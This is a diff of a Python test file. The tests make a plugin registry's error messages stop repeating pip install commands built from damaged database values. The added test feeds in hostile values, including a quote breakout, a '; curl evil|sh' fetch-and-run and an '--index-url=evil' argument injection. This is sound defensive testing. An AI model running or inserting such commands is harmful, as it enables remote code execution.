@@ -114,8 +114,20 @@ def test_a_stored_model_is_never_taken_for_another_plugins_of_that_name() -> Non
     with pytest.raises(PluginError) as caught:
         stored(Registry([OURS, plugin("zeta", "recent")]), "recent")
     assert str(caught.value) == (
-        "model 'recent' is of acme 1.0, which is not installed; get it back: pip install 'acme==1.0'"
+        "model 'recent' is of acme 1.0, which is not installed; get it back, if you know it (the database names it): "
+        "pip install acme==1.0"
     )
+
+
+@pytest.mark.parametrize(
+    ("distribution", "version"),
+    [("x' && touch INJECTED && echo '", "1"), ("acme", "1; curl evil|sh"), ("--index-url=evil", "1"), ("a\nb", "1")],
+)
+def test_no_command_is_repeated_that_a_database_has_made_up(distribution: str, version: str) -> None:
+    with pytest.raises(PluginError) as caught:
+        stored(Registry([OURS]), "recent", distribution, version)
+    assert "pip" not in str(caught.value)
+    assert "no name and version of a distribution: the database is damaged" in str(caught.value)
 
 
 def test_of_a_stored_task_that_is_gone_it_is_said_what_became_of_its_plugin() -> None:
@@ -124,8 +136,8 @@ def test_of_a_stored_task_that_is_gone_it_is_said_what_became_of_its_plugin() ->
             Registry(plugins).stored_task("rank", "acme", "1.0")
         return str(caught.value)
 
-    again = "get it back: pip install 'acme==1.0'"
-    assert said(OURS) == f"task 'rank' is of acme 1.0, which is not installed; {again}"
+    again = "get it back: pip install acme==1.0"
+    assert said(OURS).startswith("task 'rank' is of acme 1.0, which is not installed; get it back, if you know it")
     assert said(Plugin("ranking", "acme", "2.0", "failed", "ValueError: no")) == (
         "task 'rank' is of acme 1.0, whose plugin ranking is failed: ValueError: no"
     )
